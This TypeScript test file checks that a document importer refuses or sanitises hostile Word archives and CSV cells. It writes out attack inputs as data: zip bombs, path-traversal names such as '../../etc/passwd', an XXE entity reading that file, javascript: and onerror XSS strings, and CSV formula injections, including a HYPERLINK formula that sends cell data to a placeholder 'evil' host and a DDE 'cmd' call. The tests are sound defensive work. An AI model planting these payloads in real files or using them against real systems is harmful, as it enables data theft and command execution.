import { strToU8, zipSync, type Zippable } from 'fflate'
import { encode } from '../../../formats/articles/testing/encode.ts'
import { bytesOf, one, refused, sentence, type Expected, type Hostile } from './hostile.ts'

const main = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
const types =
  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
const relations = (inner: string): string =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inner}</Relationships>`
const document = (body: string, prefix = 'w', namespace = main): string =>
  `<?xml version="1.0" encoding="UTF-8"?><${prefix}:document xmlns:${prefix}="${namespace}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><${prefix}:body>${body}</${prefix}:body></${prefix}:document>`
const paragraph = (inner = `<w:r><w:t>${sentence}</w:t></w:r>`): string => `<w:p>${inner}</w:p>`

const parts = (xml: string | Uint8Array, more: Zippable = {}): Zippable => ({
  '[Content_Types].xml': strToU8(types),
  '_rels/.rels': strToU8(
    relations(
      '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>',
    ),
  ),
  'word/document.xml': typeof xml === 'string' ? strToU8(xml) : xml,
  ...more,
})
const docx = (xml: string | Uint8Array = document(paragraph()), more: Zippable = {}): Uint8Array =>
  zipSync(parts(xml, more), { level: 1 })

const signature = { list: [0x50, 0x4b, 1, 2], local: [0x50, 0x4b, 3, 4] }
/** Changes the records of a file in an archive. */
const patched = (
  bytes: Uint8Array,
  name: string,
  kind: keyof typeof signature,
  offset: number,
  value: readonly number[],
): Uint8Array => {
  const copy = Uint8Array.from(bytes)
  const header = kind === 'list' ? 46 : 30
  for (let at = 0; at + header < copy.length; at++) {
    if (!signature[kind].every((byte, index) => copy[at + index] === byte)) continue
    if (Buffer.from(copy.subarray(at + header, at + header + name.length)).toString() === name)
      copy.set(value, at + offset)
  }
  return copy
}

const word = (number: number, what: string, content: () => Uint8Array | string, expected: Expected): Hostile =>
  one(number, what, 'a.docx', content, expected)
const added = (has: readonly string[] = [sentence], hasNot?: RegExp, notes?: readonly string[]): Expected => ({
  outcome: 'added',
  has,
  ...(hasNot === undefined ? {} : { hasNot }),
  ...(notes === undefined ? {} : { notes }),
})

/** Word documents and archives: 63–75. */
export const words: readonly Hostile[] = [
  word(63, 'zeros without end, well packed', () => docx(new Uint8Array(65_000_000)), refused({ key: 'zipTooLarge' })),
  word(63, 'zeros, packed 1,000 times', () => docx(new Uint8Array(20_000_000)), refused({ key: 'zipRatio' })),
  word(
    64,
    'a size that is a lie',
    () => patched(docx(), 'word/document.xml', 'list', 24, [100, 0, 0, 0]),
    refused({ key: 'zipSize', part: 'word/document.xml' }),
  ),
  word(
    65,
    'files in one another’s place',
    () => patched(docx(), 'word/document.xml', 'list', 42, [0, 0, 0, 0]),
    refused({ key: 'zipOverlap' }),
  ),
  word(
    66,
    'names that lead out',
    () =>
      patched(
        docx(undefined, {
          '../../etc/passwd': strToU8('x'),
          '/abs': strToU8('x'),
          'a\\..\\b': strToU8('x'),
          __prqto__: strToU8('x'),
        }),
        '__prqto__',
        'list',
        46,
        [...bytesOf('__proto__')],
      ),
    added(),
  ),
  word(
    67,
    'a part twice',
    () =>
      patched(docx(undefined, { 'word/documenu.xml': strToU8('x') }), 'word/documenu.xml', 'list', 46, [
        ...bytesOf('word/document.xml'),
      ]),
    refused({ key: 'zipTwice', part: 'word/document.xml' }),
  ),
  word(
    68,
    '3,000 files',
    () => docx(undefined, Object.fromEntries(Array.from({ length: 3_000 }, (_, at) => [`${at}`, new Uint8Array()]))),
    refused({ key: 'zipTooMany' }),
  ),
  word(
    69,
    'a wrong checksum',
    () => patched(docx(), 'word/document.xml', 'list', 16, [1, 2, 3, 4]),
    refused({ key: 'zipSum', part: 'word/document.xml' }),
  ),
  word(
    69,
    'a locked file',
    () => patched(docx(), 'word/document.xml', 'list', 8, [1, 0]),
    refused({ key: 'zipEncrypted' }),
  ),
  word(
    69,
    'a locked or old document',
    () => Uint8Array.of(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0),
    refused({ key: 'otherFormat', format: 'oldOffice' }),
  ),
  word(70, 'half an archive', () => docx().subarray(0, 600), refused({ key: 'zipDamaged' })),
  word(
    71,
    'a billion laughs',
    () =>
      docx(`<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]>${document(paragraph('<w:r><w:t>&b;</w:t></w:r>'))}`),
    refused({ key: 'wordType', part: 'word/document.xml' }),
  ),
  word(
    71,
    'an entity from outside',
    () => docx(`<!doctype x [<!ENTITY a SYSTEM "file:///etc/passwd">]>${document(paragraph())}`),
    refused({ key: 'wordType' }),
  ),
  word(
    72,
    'what leads outside',
    () =>
      docx(
        document(
          `${paragraph()}${paragraph('<w:hyperlink r:id="h"><w:r><w:t>رابط</w:t></w:r></w:hyperlink><w:r><w:sym w:font="x" w:char="x&gt;&lt;img onerror=alert(1)&gt;"/></w:r>')}<w:altChunk r:id="x"/>`,
        ),
        {
          'word/_rels/document.xml.rels': strToU8(
            relations(
              '<Relationship Id="x" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="https://tracker.example/p.png" TargetMode="External"/><Relationship Id="h" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="javascript:alert(1)" TargetMode="External"/>',
            ),
          ),
        },
      ),
    added([sentence, 'رابط'], /alert|tracker|onerror/u, ['linkedLeftOut']),
  ),
  word(
    73,
    'tracked changes, comments and hidden words',
    () =>
      docx(
        document(
          paragraph(
            `<w:r><w:t>${sentence}</w:t></w:r><w:del w:id="1" w:author="س"><w:r><w:delText>محذوف</w:delText></w:r></w:del><w:ins w:id="2" w:author="س"><w:r><w:t> مضاف</w:t></w:r></w:ins><w:r><w:rPr><w:vanish/></w:rPr><w:t> مخفي</w:t></w:r>`,
          ),
        ),
        {
          'docProps/core.xml': strToU8('<x>محرر</x>'),
          'word/comments.xml': strToU8('<w:comments><w:comment w:id="1">تعليق</w:comment></w:comments>'),
        },
      ),
    added([`${sentence} مضاف مخفي`], /محذوف|تعليق|محرر/u, [
      'deletionsLeftOut',
      'hiddenKept',
      'propertiesLeftOut',
      'commentsLeftOut',
    ]),
  ),
  word(
    74,
    'XML in UTF-16',
    () => docx(encode(`\ufeff${document(paragraph()).replace('UTF-8', 'UTF-16')}`, 'utf-16le') ?? ''),
    added(),
  ),
  word(74, 'another prefix', () => docx(document(`<x:p><x:r><x:t>${sentence}</x:t></x:r></x:p>`, 'x')), added()),
  word(
    74,
    'strict OOXML',
    () => docx(document(paragraph(), 'w', 'http://purl.oclc.org/ooxml/wordprocessingml/main')),
    added(),
  ),
  word(
    75,
    '1,000 elements in each other',
    () => docx(document(paragraph(`${'<w:smartTag>'.repeat(1_000)}<w:r/>${'</w:smartTag>'.repeat(1_000)}`))),
    refused({ key: 'tooDeep', part: 'word/document.xml' }),
  ),
  word(
    75,
    'no document inside',
    () => zipSync({ 'word/document.xml.txt': strToU8('x'), 'word/other.xml': strToU8('x') }),
    refused({ key: 'wordPart' }),
  ),
]

/** What a spreadsheet would take for a formula, and other cells that are none: 76. */
const cells = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  ' =1+1',
  '=HYPERLINK("http://evil/?x="&A1,"c")',
  "=cmd|'/c calc'!A1",
  '\u200f=1+1',
  '＝1+1',
  '-5',
  '+963 11 555',
  'x;=1+1',
  'a,b',
  'a"b',
]
export const tables: readonly Hostile[] = [
  {
    number: 76,
    what: 'cells that begin a formula',
    sources: () => [
      {
        name: 'a.csv',
        content: bytesOf(
          `title,text\n${cells.map((cell) => `"${cell.replaceAll('"', '""')}","${`${cell} ${sentence}`.replaceAll('"', '""')}"`).join('\n')}`,
        ),
      },
    ],
    expected: cells.map((cell) => ({ outcome: 'added', text: `${cell} ${sentence}` })),
  },
]
